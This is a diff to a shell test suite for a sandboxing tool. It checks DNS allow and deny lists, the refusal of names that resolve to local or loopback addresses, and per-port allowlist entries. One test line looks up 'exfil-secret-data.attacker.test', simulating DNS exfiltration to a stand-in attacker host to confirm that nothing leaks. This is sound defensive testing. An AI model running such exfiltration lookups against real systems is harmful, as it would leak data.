@@ -15,14 +15,14 @@ trap 'lab_down; cleanup' EXIT
 lab_up || { echo "cannot build the lab"; exit 1; }
 
 S="$SCRATCH/net.json"
-printf '{"sandbox":{"enabled":true,"filesystem":{"denyRead":["/etc/hosts"]},"network":{"allowedDomains":["allowed.test","loopname.test"],"deniedDomains":["denied.test"]}}}' > "$S"
+printf '{"sandbox":{"enabled":true,"filesystem":{"denyRead":["/etc/hosts"]},"network":{"allowedDomains":["allowed.test","loopname.test","mappedown.test","other.test:8080"],"deniedDomains":["denied.test"]}}}' > "$S"
 NOPROXY='env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u ALL_PROXY -u all_proxy -u NO_PROXY -u no_proxy'
 
 lab_wb run --settings "$S" -- getent hosts allowed.test
 check "getent: an allowed name resolves inside, to the run's pool" grep -qE '^127\.100\.[0-9]+\.[0-9]+ +allowed\.test' <<<"$OUT"
-lab_wb run --settings "$S" -- getent hosts other.test
+lab_wb run --settings "$S" -- getent hosts unlisted.test
 check "getent: a name on no list does not resolve" [ "$RC" -ne 0 ]
-check "and is reported as a refused lookup" grep -q "deny dns other.test (not on the allow list)" <<<"$OUT"
+check "and is reported as a refused lookup" grep -q "deny dns unlisted.test (not on the allow list)" <<<"$OUT"
 lab_wb run --settings "$S" -- getent hosts denied.test
 check "a name on the deny list is refused with its rule" grep -q "deny dns denied.test (host is on the deny list: denied.test)" <<<"$OUT"
 
@@ -54,6 +54,13 @@ check "a connection to 127.0.0.1:443 inside is refused and reported" grep -q "de
 # NET-7 through the transparent path: an allowed name that resolves to loopback on the host.
 lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 http://loopname.test/tp-loop
 check "NET-7: an allowed name resolving to this host's loopback is refused" grep -q "deny network-outbound loopname.test:80 (resolves to a local address" <<<"$OUT"
+check "NET-7 through the transparent path, IPv6: a name resolving to this host (::ffff:) is refused" \
+  bash -c 'OUT=$(cd "$0" && ip netns exec "$1" "$2" run --settings "$3" -- '"$NOPROXY"' curl -s -m 5 http://mappedown.test/tp-mapped 2>&1); grep -q "deny network-outbound mappedown.test:80 (resolves to a local address" <<<"$OUT"' "$WS" "$LAB_CL" "$WAVEBOX" "$S"
+# An allowlist entry with its own port gets a transparent listener of its own (ssh's 22 would).
+lab_wb run --settings "$S" -- $NOPROXY bash -c 'exec 3<>/dev/tcp/other.test/8080; printf "GET /hello-tp-port HTTP/1.0\r\nHost: other.test\r\n\r\n" >&3; head -1 <&3'
+check "a raw client reaches an allowed name on the entry's own port" received "8080 GET /hello-tp-port"
+lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 http://other.test/tp-other-80
+check "and that name on another port is refused, and said" grep -q "deny network-outbound other.test:80 (host is not on the allow list)" <<<"$OUT"
 # Nothing asked a real resolver: the lab's DNS listener heard nothing.
 lab_wb run --settings "$S" -- $NOPROXY sh -c 'getent hosts exfil-secret-data.attacker.test; python3 -c "
 import socket
@@ -71,8 +78,8 @@ check "the HTTP proxy still works beside it" received "80 GET /hello-tp-proxied"
 user=wavebox-test
 if id "$user" >/dev/null 2>&1; then
   uws="$SCRATCH/userws"; mkdir -p "$uws"; chown "$user" "$uws"; chmod o+rx "$SCRATCH"; chmod o+r "$S"
-  OUT=$(ip netns exec "$LAB_CL" runuser -u "$user" -- sh -c "cd '$uws' && HOME='$uws' '$WAVEBOX' run --settings '$S' -- $NOPROXY sh -c 'curl -s -m 5 http://allowed.test/hello-tp-user; getent hosts other.test'" 2>&1)
+  OUT=$(ip netns exec "$LAB_CL" runuser -u "$user" -- sh -c "cd '$uws' && HOME='$uws' '$WAVEBOX' run --settings '$S' -- $NOPROXY sh -c 'curl -s -m 5 http://allowed.test/hello-tp-user; getent hosts unlisted.test'" 2>&1)
   check "unprivileged: the transparent path reaches an allowed host" received "80 GET /hello-tp-user"
-  check "unprivileged: a refused lookup is listed" grep -q "deny dns other.test" <<<"$OUT"
+  check "unprivileged: a refused lookup is listed" grep -q "deny dns unlisted.test" <<<"$OUT"
 fi
 finish
